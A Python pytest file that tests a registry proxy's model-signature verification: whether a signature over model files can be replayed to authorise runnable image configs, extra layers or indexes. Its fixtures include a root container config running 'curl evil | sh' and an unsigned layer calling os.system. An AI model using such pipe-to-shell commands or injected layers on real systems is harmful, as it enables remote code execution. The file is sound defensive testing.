"""What a model-only OMS signature authorises besides the signed files.

An OMS signature lists files (name, sha256) and nothing else, so the same signature
verifies for any manifest holding those files. These cases build a model, sign it with
``model_signing`` itself (EC key), and replay the signature into manifests that add
something the signature never covered: a runnable config, an extra layer, an index.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from proxy.oci import mediatypes as mt
from proxy.oci.digest import Digest
from proxy.oci.manifest import Descriptor
from proxy.oci.model import config_content_refusal
from proxy.verify.base import Limits, PolicyError, SignatureError, Subject, TrustConfig
from proxy.verify.oms import ModelSignature, layer_plans, oms_verifier_from_spec
from proxy.verify.policy import parse_policy
from tests.support import cosign_sign as cs
from tests.support.notation_sign import TestNotary

FILES = {"config.json": b'{"layers": 2}', "weights/model.safetensors": b"weights" * 1000}
OCI_IMAGE_CONFIG = "application/vnd.oci.image.config.v1+json"
DOCKER_IMAGE_CONFIG = "application/vnd.docker.container.image.v1+json"
RAW = "application/vnd.cncf.model.weight.v1.raw"
TGZ = "application/vnd.cncf.model.weight.v1.tar+gzip"
RUNNABLE = json.dumps(
    {
        "architecture": "amd64",
        "os": "linux",
        "config": {"Entrypoint": ["/bin/sh", "-c"], "Cmd": ["curl evil | sh"], "User": "0"},
        "rootfs": {"type": "layers", "diff_ids": []},
    }
).encode()
MODELPACK = json.dumps(
    {
        "descriptor": {"name": "tiny", "version": "1"},
        "config": {"architecture": "transformer", "format": "safetensors", "paramSize": "1M"},
        "modelfs": {"type": "layers", "diffIds": []},
    }
).encode()
KITFILE = json.dumps({"manifestVersion": "1.0", "package": {"name": "tiny"}}).encode()


@pytest.fixture(scope="module")
def signed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, bytes]:
    """A model directory signed by model_signing: (policy dir with keys/model.pub, bundle)."""
    import model_signing

    work = tmp_path_factory.mktemp("oms-config")
    for name, data in FILES.items():
        path = work / "model" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    key = ec.generate_private_key(ec.SECP256R1())
    (work / "model.key").write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    (work / "keys").mkdir()
    (work / "keys" / "model.pub").write_bytes(
        key.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
    )
    model_signing.signing.Config().use_elliptic_key_signer(private_key=work / "model.key").sign(
        work / "model", work / "model.sig"
    )
    return work, (work / "model.sig").read_bytes()


def _descriptor(media_type: str, data: bytes, **annotations: str) -> dict[str, Any]:
    out: dict[str, Any] = {"mediaType": media_type, "digest": str(Digest.of(data))}
    out["size"] = len(data)
    if annotations:
        out["annotations"] = annotations
    return out


def model(
    config: tuple[str, bytes] = (mt.OCI_EMPTY, b"{}"),
    *,
    extra: tuple[tuple[dict[str, Any], bytes], ...] = (),
    media_type: str = mt.OCI_MANIFEST,
) -> cs.Artifact:
    """The signed files as raw layers (each titled with its name), plus ``extra``."""
    layers = [
        (_descriptor(RAW, data, **{mt.MODEL_FILEPATH: name}), data)
        for name, data in sorted(FILES.items())
    ] + list(extra)
    doc = {
        "schemaVersion": 2,
        "mediaType": media_type,
        "config": _descriptor(config[0], config[1]),
        "layers": [d for d, _ in layers],
    }
    raw = json.dumps(doc).encode()
    return cs.Artifact(raw, media_type, (config[1], *(b for _, b in layers)))


async def verify(
    signed: tuple[Path, bytes], artifact: cs.Artifact, **spec: Any
) -> tuple[bool, str, cs.MemoryRegistry]:
    """Push ``artifact`` with the model's bundle as its referrer; verify it."""
    work, bundle = signed
    registry = cs.MemoryRegistry()
    registry.add(artifact)
    descriptor = Descriptor(artifact.media_type, artifact.digest, len(artifact.manifest))
    registry.add(cs.bundle_referrer(bundle, descriptor))
    verifier = oms_verifier_from_spec(
        {"key": "keys/model.pub", **spec}, base_dir=work, trust=TrustConfig()
    )
    subject = Subject(
        "registry.example.test", "models/llm", artifact.digest, artifact.media_type,
        len(artifact.manifest),
    )  # fmt: skip
    result = await verifier.verify(subject, registry, Limits())
    return result.ok, result.reason, registry


# ---- the config ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("config", "media_type"),
    [(OCI_IMAGE_CONFIG, mt.OCI_MANIFEST), (DOCKER_IMAGE_CONFIG, mt.DOCKER_MANIFEST)],
)
async def test_refuses_model_signature_authorising_an_image_config(
    signed: tuple[Path, bytes], config: str, media_type: str
) -> None:
    # Control: the same signature over the same files, with the empty config, verifies.
    ok, reason, _ = await verify(signed, model())
    assert ok, reason
    # The signed files replayed under a runnable config (a ModelCar-like image).
    ok, reason, _ = await verify(signed, model((config, RUNNABLE), media_type=media_type))
    assert not ok
    assert f"the config is {config}, a runnable image config" in reason
    assert "allowImageConfig" in reason  # the refusal says how a policy may allow it


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (RUNNABLE, "sets Cmd, Entrypoint, User: it is an image config"),
        (b'{"rootfs": {"type": "layers", "diff_ids": []}}', "has a rootfs"),
        (b'{"config": {"Cmd": ["sh"]}}', "sets Cmd"),
        (b'{"config": {"format": "gguf", "volumes": {"/data": {}}}}', "sets volumes"),
        (b'{"CONFIG": {"entrypoint": ["sh"], "ENV": ["A=1"]}}', "sets ENV, entrypoint"),
        (b'{"rootf\\u017f": {"type": "layers"}}', "has a rootfs"),  # Go folds U+017F
        (b'{"config": {"User": "0"}, "config": {"format": "gguf"}}', "sets User"),
        (b"[]", "not a JSON object"),
        (b"\xff{}", "not JSON"),
    ],
    ids=[
        "image-config",
        "rootfs",
        "cmd",
        "volumes",
        "case",
        "unicode-fold",
        "repeated-key",
        "array",
        "not-json",
    ],
)
def test_refuses_model_config_that_is_an_image_config_in_disguise(content: bytes, why: str) -> None:
    reason = config_content_refusal(mt.MODELPACK_CONFIG, content)
    assert reason is not None and why in reason, reason


def test_model_configs_hold_no_image_config_fields() -> None:
    assert config_content_refusal(mt.MODELPACK_CONFIG, MODELPACK) is None
    assert config_content_refusal(mt.MODELKIT_CONFIG, KITFILE) is None


async def test_refuses_model_config_type_over_a_runnable_blob(signed: tuple[Path, bytes]) -> None:
    ok, reason, registry = await verify(signed, model((mt.MODELPACK_CONFIG, RUNNABLE)))
    assert not ok and f"the {mt.MODELPACK_CONFIG} config sets Cmd, Entrypoint, User" in reason
    assert Digest.of(RUNNABLE) in registry.fetched_blobs


@pytest.mark.parametrize(
    "config",
    [(mt.MODELPACK_CONFIG, MODELPACK), (mt.MODELKIT_CONFIG, KITFILE)],
    ids=["modelpack", "kitops"],
)
async def test_model_config_verifies(signed: tuple[Path, bytes], config: tuple[str, bytes]) -> None:
    ok, reason, _ = await verify(signed, model(config))
    assert ok, reason


async def test_unknown_config_type_is_allowed_only_as_the_empty_json(
    signed: tuple[Path, bytes],
) -> None:
    unknown = "application/vnd.unknown.config.v1+json"  # what ORAS 0.x pushes
    ok, reason, registry = await verify(signed, model((unknown, b"{}")))
    assert ok, reason
    assert Digest.of(b"{}") not in registry.fetched_blobs  # {} is known: not fetched
    ok, reason, _ = await verify(signed, model((unknown, b'{"Cmd": ["sh"]}')))
    assert not ok and f"the config is {unknown}: a model signature covers only" in reason


async def test_refuses_empty_config_type_that_is_not_empty(signed: tuple[Path, bytes]) -> None:
    ok, reason, _ = await verify(signed, model((mt.OCI_EMPTY, RUNNABLE)))
    assert not ok and f"the config is {mt.OCI_EMPTY} but not the 2-byte {{}}" in reason


async def test_refuses_model_config_over_the_cap_without_fetching_it(
    signed: tuple[Path, bytes],
) -> None:
    huge = json.dumps({"descriptor": {"name": "x" * (1024 * 1024)}}).encode()
    ok, reason, registry = await verify(signed, model((mt.MODELPACK_CONFIG, huge)))
    assert not ok and "exceeds the 1048576-byte cap" in reason
    assert Digest.of(huge) not in registry.fetched_blobs


async def test_allow_image_config_leaves_the_config_to_the_policy(
    signed: tuple[Path, bytes],
) -> None:
    ok, reason, _ = await verify(signed, model((OCI_IMAGE_CONFIG, RUNNABLE)), allowImageConfig=True)
    assert ok, reason


def test_refuses_allow_image_config_that_is_not_a_boolean(signed: tuple[Path, bytes]) -> None:
    with pytest.raises(PolicyError, match="allowImageConfig must be true or false"):
        oms_verifier_from_spec(
            {"key": "keys/model.pub", "allowImageConfig": "yes"},
            base_dir=signed[0],
            trust=TrustConfig(),
        )


async def test_image_config_needs_a_manifest_signature_too_in_all_of(
    signed: tuple[Path, bytes],
) -> None:
    """The README's recipe: allOf a cosign signature of the manifest (which covers
    the config) and the model signature with allowImageConfig."""
    work, bundle = signed
    release = cs.generate_key()
    release.write_public(work / "keys" / "release.pub")
    policy = parse_policy(
        b"scopes:\n"
        b"  - match: 'registry.example.test/models/**'\n"
        b"    require:\n"
        b"      allOf:\n"
        b"        - cosign: {key: keys/release.pub}\n"
        b"        - modelSigning: {key: keys/model.pub, allowImageConfig: true}\n",
        base_dir=work,
    )
    (scope,) = policy.scopes
    assert scope.require is not None
    image = model((OCI_IMAGE_CONFIG, RUNNABLE))
    registry = cs.MemoryRegistry()
    registry.add(image)
    descriptor = Descriptor(image.media_type, image.digest, len(image.manifest))
    registry.add(cs.bundle_referrer(bundle, descriptor))
    subject = Subject(
        "registry.example.test", "models/llm", image.digest, image.media_type, len(image.manifest)
    )
    result = await scope.require.evaluate(subject, registry, Limits())
    assert not result.ok and "no cosign signature" in result.reason  # the model signature alone
    payload = cs.simple_signing_payload(image.digest, "registry.example.test/models/llm")
    registry.add(cs.signature_image(image.digest, [cs.sign_layer(release, payload)]))
    result = await scope.require.evaluate(subject, registry, Limits())
    assert result.ok, result.reason


# ---- the manifest and its layers -----------------------------------------------------


async def test_refuses_index_as_a_model(signed: tuple[Path, bytes]) -> None:
    child = model()
    doc = {
        "schemaVersion": 2,
        "mediaType": mt.OCI_INDEX,
        "manifests": [Descriptor(child.media_type, child.digest, len(child.manifest)).to_json()],
    }
    index = cs.Artifact(json.dumps(doc).encode(), mt.OCI_INDEX, ())
    ok, reason, _ = await verify(signed, index)
    assert not ok and "an index is not a model" in reason


async def test_refuses_raw_layer_not_in_the_signed_file_list(signed: tuple[Path, bytes]) -> None:
    script = b"import os; os.system('id')"
    extra = ((_descriptor(RAW, script, **{mt.MODEL_FILEPATH: "load.py"}), script),)
    ok, reason, _ = await verify(signed, model(extra=extra))
    assert not ok and "file load.py is not covered by the signature" in reason


SIGNED = {name: Digest.of(data).hex for name, data in FILES.items()}


def _plans(*layers: dict[str, Any], ignore: tuple[str, ...] = ()) -> Any:
    doc = {
        "schemaVersion": 2,
        "mediaType": mt.OCI_MANIFEST,
        "config": _descriptor(mt.OCI_EMPTY, b"{}"),
        "layers": list(layers),
    }
    from proxy.oci.manifest import parse_manifest

    manifest = parse_manifest(json.dumps(doc).encode(), mt.OCI_MANIFEST)
    signature = ModelSignature(dict(SIGNED), "https://model_signing/signature/v1.0")
    return layer_plans(signature, manifest, ignore, source="t")


def test_refuses_tar_layer_holding_no_signed_file() -> None:
    # Before, a tar layer whose path no signed file lies under got an empty plan and
    # was streamed; one holding only an ignored file (say model.sig) passed it.
    weights = _descriptor(TGZ, b"tar-w", **{mt.MODEL_FILEPATH: "weights"})
    config = _descriptor(RAW, FILES["config.json"], **{mt.MODEL_FILEPATH: "config.json"})
    extra = _descriptor(TGZ, b"tar-x", **{mt.MODEL_FILEPATH: "extra"})
    assert Digest.of(b"tar-w") in _plans(weights, config)
    with pytest.raises(SignatureError, match=r"\(extra\) holds no signed file"):
        _plans(weights, config, extra)
    # A layer wholly under an ignore rule holds what the ignore rule lets in.
    assert Digest.of(b"tar-x") in _plans(weights, config, extra, ignore=("extra",))
    # A tar layer without a filepath that is left no signed file is refused too.
    rest = _descriptor(TGZ, b"tar-r")
    with pytest.raises(SignatureError, match=rf"layer {Digest.of(b'tar-r')} holds no signed"):
        _plans(weights, config, rest)


def test_refuses_signature_listing_no_file_of_the_model() -> None:
    weights = _descriptor(TGZ, b"tar-w", **{mt.MODEL_FILEPATH: "weights"})
    config = _descriptor(RAW, FILES["config.json"], **{mt.MODEL_FILEPATH: "config.json"})
    with pytest.raises(SignatureError, match="lists no file of the model"):
        _plans(weights, config, ignore=("weights", "config.json"))


# ---- the policy: allowImageConfig only beside a signature of the manifest ------------


@pytest.mark.parametrize(
    "require",
    [
        "{modelSigning: {key: keys/model.pub, allowImageConfig: true}}",
        "{anyOf: [{cosign: {key: keys/release.pub}}, {modelSigning: {key: keys/model.pub,"
        " allowImageConfig: true}}]}",
        "{allOf: [{anyOf: [{cosign: {key: keys/release.pub}}, {modelSigning: {key:"
        " keys/model.pub}}]}, {modelSigning: {key: keys/model.pub, allowImageConfig: true}}]}",
        "{allOf: [{modelSigning: {key: keys/model.pub}}, {modelSigning: {key: keys/model.pub,"
        " allowImageConfig: true}}]}",
    ],
    ids=["alone", "anyOf", "allOf-anyOf-with-a-model-signature", "allOf-model-signatures"],
)
def test_refuses_policy_allowing_an_image_config_without_a_manifest_signature(
    signed: tuple[Path, bytes], require: str
) -> None:
    work, _ = signed
    cs.generate_key().write_public(work / "keys" / "release.pub")
    text = f"scopes:\n  - match: 'registry.example.test/**'\n    require: {require}\n"
    with pytest.raises(PolicyError, match="allowImageConfig must be in an allOf with cosign"):
        parse_policy(text.encode(), base_dir=work)


@pytest.mark.parametrize(
    "require",
    [
        "{allOf: [{cosign: {key: keys/release.pub}}, {modelSigning: {key: keys/model.pub,"
        " allowImageConfig: true}}]}",
        "{allOf: [{anyOf: [{cosign: {key: keys/release.pub}}, {cosign: {key: keys/model.pub}}]},"
        " {anyOf: [{modelSigning: {key: keys/model.pub, allowImageConfig: true}}]}]}",
        "{anyOf: [{allOf: [{cosign: {key: keys/release.pub}}, {modelSigning: {key:"
        " keys/model.pub, allowImageConfig: true}}]}, {modelSigning: {key: keys/model.pub}}]}",
    ],
    ids=["allOf", "nested", "anyOf-of-guarded"],
)
def test_policy_allows_an_image_config_beside_a_manifest_signature(
    signed: tuple[Path, bytes], require: str
) -> None:
    work, _ = signed
    cs.generate_key().write_public(work / "keys" / "release.pub")
    text = f"scopes:\n  - match: 'registry.example.test/**'\n    require: {require}\n"
    (scope,) = parse_policy(text.encode(), base_dir=work).scopes
    assert scope.require is not None


NOTATION_BESIDE = (
    "{allOf: [{notation: {trustPolicy: notation/trustpolicy.json, trustStore: "
    "notation/truststore}}, {modelSigning: {key: keys/model.pub, allowImageConfig: true}}]}"
)


@pytest.mark.parametrize("level", ["audit", "skip"])
def test_refuses_policy_allowing_an_image_config_beside_notation_that_authenticates_nobody(
    signed: tuple[Path, bytes], level: str
) -> None:
    """At level audit a Notation trust policy accepts anyone's signature, at skip none is
    needed: beside either, a runnable config would rest on the model signature alone."""
    work, _ = signed
    TestNotary().write_trust(work / "notation", level=level)
    text = f"scopes:\n  - match: 'registry.example.test/**'\n    require: {NOTATION_BESIDE}\n"
    with pytest.raises(PolicyError, match="allowImageConfig must be in an allOf with cosign"):
        parse_policy(text.encode(), base_dir=work)


@pytest.mark.parametrize("level", ["strict", "permissive"])
def test_policy_allows_an_image_config_beside_notation_that_authenticates(
    signed: tuple[Path, bytes], level: str
) -> None:
    work, _ = signed
    TestNotary().write_trust(work / "notation", level=level)
    text = f"scopes:\n  - match: 'registry.example.test/**'\n    require: {NOTATION_BESIDE}\n"
    (scope,) = parse_policy(text.encode(), base_dir=work).scopes
    assert scope.require is not None
